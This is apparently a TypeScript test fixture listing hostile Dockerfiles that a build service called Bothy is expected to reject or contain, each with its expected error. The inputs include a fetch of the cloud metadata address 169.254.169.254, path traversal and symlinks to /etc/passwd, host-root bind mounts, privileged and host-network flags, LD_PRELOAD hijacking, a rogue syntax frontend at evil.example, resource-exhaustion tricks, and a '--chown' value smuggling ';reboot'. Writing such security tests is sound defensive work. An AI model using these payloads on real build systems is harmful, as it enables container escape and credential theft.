import type { ContextEntry } from '../context/read-look.ts'

/**
 * What somebody hostile builds by, each in one way. `error`: what is said instead of building it;
 * without it the engine is asked for nothing but what it is asked for everybody. `inMemory`: where
 * a step has memory besides.
 */
export type HostileDockerfile = {
  name: string
  text: string
  /** Of the context. */
  entries?: ContextEntry[]
  /** What the image it begins with wants done by whoever builds on it. */
  onBuild?: string[]
  args?: Record<string, string>
  error?: string
  inMemory?: string[]
}

const from = 'FROM evil.example/image:1\n'
const link = (path: string, content: string): ContextEntry => {
  return { kind: 'link', path, mode: '777', content }
}
const doubling = Array.from({ length: 40 }, (_, n) => `ENV A${n + 1}="$A${n}$A${n}"`).join('\n')

export const hostileDockerfiles: HostileDockerfile[] = [
  {
    name: 'has the server fetch an address of its own network',
    text: `${from}ADD http://169.254.169.254/latest/meta-data /x`,
    error: 'Dockerfile:2: ADD http://169.254.169.254/latest/meta-data is not possible here.',
  },
  {
    name: 'hides such an address in an argument',
    text: `${from}ARG U=git@10.0.0.1:a/b.git\nADD --chown=1 \${U:-x} /x`,
    error: 'Dockerfile:3: ADD git@10.0.0.1:a/b.git is not possible here.',
  },
  {
    name: 'gives the image words for the engine',
    text: 'FROM --privileged -v=/:/host evil.example/image:1',
    error: 'Dockerfile:1: FROM has no flag --privileged.',
  },
  {
    name: 'has an image that begins as an option does',
    text: 'ARG I="-v/:/host"\nFROM $I',
    error: 'is not the name of an image',
  },
  {
    name: 'begins with an image of the server’s own network',
    text: 'ARG I\nFROM $I',
    args: { I: '192.168.0.1:5000/a' },
    error: 'Dockerfile:2: The image 192.168.0.1:5000/a is not allowed here.',
  },
  {
    name: 'begins with what somebody else has built',
    text: 'FROM 0123456789ab',
    error: 'could be the id of an image',
  },
  {
    name: 'copies from an image of the server’s',
    text: `${from}COPY --from=bothy/default:1 / /x`,
    error: 'Dockerfile:2: "bothy/default:1" is one of Bothy’s own images',
  },
  {
    name: 'copies from outside by a name that a stage could have',
    text: `${from}COPY --from=../../etc passwd /x`,
    error: 'is not the name of an image',
  },
  {
    name: 'copies from a stage that is still to come',
    text: `${from}COPY --from=later /x /x\nFROM evil.example/image:1 AS later\nRUN true`,
  },
  {
    name: 'copies what is above its context',
    text: `${from}COPY sub/../../../../etc/passwd /x`,
    error: 'is not in the context',
  },
  {
    name: 'copies by way of a link that leads out',
    text: `${from}COPY out/passwd /x`,
    entries: [link('out', '/etc')],
    error: 'Dockerfile:2: COPY: out/passwd is not in the context',
  },
  {
    name: 'mounts the machine into a step',
    // It is the root of the context, copied.
    text: `${from}RUN --mount=type=bind,source=/,target=/host,rw id`,
  },
  {
    name: 'mounts what is above its context into a step',
    text: `${from}RUN --mount=type=bind,source=../../../etc,target=/host id`,
    error: 'Dockerfile:2: RUN: ../../../etc is not in the context',
  },
  {
    name: 'mounts where a link of its context leads into a step',
    text: `${from}RUN --mount=type=bind,source=out/passwd,target=/host id`,
    entries: [link('out', '/etc')],
    error: 'Dockerfile:2: RUN: out/passwd is not in the context',
  },
  {
    name: 'mounts files in the place of what is the server’s',
    text: `${from}RUN --mount=type=bind,source=.,target=/usr/../.bothy/kits id`,
    error: 'is not possible here: its target is not for a mount.',
  },
  {
    name: 'mounts files in the place of what is the kernel’s',
    text: `${from}WORKDIR /proc\nRUN --mount=type=bind,target=self id`,
    error: 'is not possible here: its target is not for a mount.',
  },
  {
    name: 'mounts another image into a step',
    text: `${from}RUN --mount=from=bothy/default:1,source=/etc,target=/x id`,
    error: 'bothy/default:1',
  },
  {
    name: 'mounts all of another image into a step',
    text: `${from}RUN --mount=from=debian:12,target=/x id`,
    error: 'is not possible here: a folder of it is to be named as the source.',
  },
  {
    name: 'mounts an image of a private registry into a step',
    text: `${from}RUN --mount=from=192.168.0.1:5000/x,source=/etc,target=/x id`,
    error: 'is not allowed here.',
  },
  {
    name: 'takes a secret that must be there',
    text: `${from}RUN --mount=type=secret,id=token,required id`,
    error: 'needs the secret token, and there is none',
  },
  {
    name: 'takes the agent of somebody’s keys',
    text: `${from}RUN --mount=type=ssh,required=true id`,
    error: 'is not possible here.',
  },
  {
    name: 'puts memory in the place of what is the server’s',
    text: `${from}RUN --mount=type=tmpfs,target=/usr/../.bothy/kits id`,
    error: 'is not possible here.',
  },
  {
    name: 'keeps things for other builds',
    text: `${from}RUN --mount=type=cache,id=theirs,sharing=shared,target=/.bothy/kits id`,
  },
  {
    name: 'runs on the network of the machine',
    text: `${from}RUN --network=host id`,
    error: 'RUN --network=host is not possible here.',
  },
  {
    name: 'runs with every power',
    text: `${from}RUN --security=insecure id`,
    error: 'RUN --security=insecure is not possible here.',
  },
  {
    name: 'has a device',
    text: `${from}RUN --device=vendor/gpu id`,
    error: 'RUN --device=vendor/gpu is not possible here.',
  },
  {
    name: 'has a volume in the place of what is the server’s',
    text: `${from}VOLUME ["/.bothy/./kits/current"]\nRUN id`,
    error: 'The image asks for a volume at "/.bothy/./kits/current", which cannot be.',
  },
  {
    name: 'has a volume in the place of everything',
    text: `${from}VOLUME /a/..\nRUN id`,
    error: 'which cannot be.',
  },
  {
    name: 'has volumes in the place of what the kernel says',
    text: `${from}VOLUME /proc /sys/fs/cgroup\nRUN id`,
    inMemory: ['/proc', '/sys/fs/cgroup'],
  },
  {
    name: 'is run by somebody with words for the engine',
    text: `${from}USER 0:0 --privileged\nWORKDIR ../../../..\nRUN id`,
  },
  {
    name: 'says that it is another codespace’s, and of another owner',
    text: `${from}LABEL bothy.codespace=theirs bothy.instance=x bothy.owner=root\nRUN id`,
  },
  {
    name: 'replaces the shell and what every program loads',
    text: `${from}SHELL ["/.bothy/kits/current/busybox", "sh", "-c"]\nENV LD_PRELOAD=/evil.so\nENV PATH=/evil\nRUN id`,
  },
  {
    name: 'asks for another builder',
    text: `# syntax=evil.example/frontend:1\n${from}ARG BUILDKIT_SYNTAX=evil.example/frontend:2\nRUN id`,
  },
  {
    name: 'has its image ask for more than it may itself',
    text: `${from}RUN id`,
    onBuild: ['RUN --network=host id'],
    error: 'Dockerfile:1: RUN --network=host is not possible here.',
  },
  {
    name: 'has its image have others build for it without end',
    text: from,
    onBuild: Array.from({ length: 2500 }, () => 'ENV A=1'),
    error: 'There are more than 2000 instructions',
  },
  {
    name: 'doubles a variable until there is no room',
    text: `${from}ENV A0=${'x'.repeat(64)}\n${doubling}\nRUN id`,
    error: 'The image’s own settings come to more than 256 KB.',
  },
  {
    name: 'never ends the text it begins',
    text: `${from}RUN <<EOF\n${'echo\n'.repeat(50)}`,
    error: 'Dockerfile:2: The text that EOF is to end does not end.',
  },
  {
    name: 'turns what is read of it around',
    text: `${from}RUN --network=\u202ehost\u202c\u0007 id`,
    error: 'Dockerfile:2: RUN --network=\\u{202e}host\\u{202c}\\u{7} is not possible here.',
  },
  {
    name: 'gives files to somebody with more words',
    text: `${from}COPY --chown="0:0 -R /;reboot" a /x`,
    entries: [{ kind: 'file', path: 'a', mode: '4777', content: 'a'.repeat(64) }],
  },
]
